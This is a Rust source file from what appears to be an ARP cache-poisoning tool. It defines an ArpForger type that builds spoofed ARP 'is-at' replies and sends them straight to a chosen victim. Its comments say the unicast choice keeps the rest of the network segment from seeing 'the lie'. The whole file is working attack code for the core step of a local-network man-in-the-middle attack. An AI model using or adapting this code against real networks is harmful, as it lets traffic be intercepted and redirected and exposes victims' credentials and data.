//! Forged is-at reply construction and transmission

use arpoison_core::{MacAddr, PacketSender, Result};
use arpoison_packet::ArpPacket;
use std::net::Ipv4Addr;
use std::sync::Arc;
use tracing::{debug, trace};

/// Builds spoofed ARP replies and puts them on the wire.
///
/// A forged reply claims `sender_ip` lives at `sender_mac` and is
/// unicast straight to the victim, Ethernet source included, so nothing
/// else on the segment learns the lie.
#[derive(Clone)]
pub struct ArpForger {
    sender: Arc<dyn PacketSender>,
    local_ip: Ipv4Addr,
}

impl ArpForger {
    pub fn new(sender: Arc<dyn PacketSender>, local_ip: Ipv4Addr) -> Self {
        Self { sender, local_ip }
    }

    /// Send one forged is-at reply to `target_mac`.
    ///
    /// Claiming our own address would poison caches with an entry that
    /// is already true and mark us as the attacker; such frames are
    /// skipped.
    pub fn forge(
        &self,
        sender_ip: Ipv4Addr,
        sender_mac: MacAddr,
        target_ip: Ipv4Addr,
        target_mac: MacAddr,
    ) -> Result<()> {
        if sender_ip == self.local_ip {
            debug!(ip = %sender_ip, "refusing to claim our own address");
            return Ok(());
        }

        trace!(
            claim = %sender_ip,
            as_mac = %sender_mac,
            to = %target_ip,
            "sending forged reply"
        );

        let frame = ArpPacket::is_at(sender_mac, sender_ip, target_mac, target_ip)
            .to_frame(sender_mac, target_mac);
        self.sender.send_frame(&frame)
    }
}
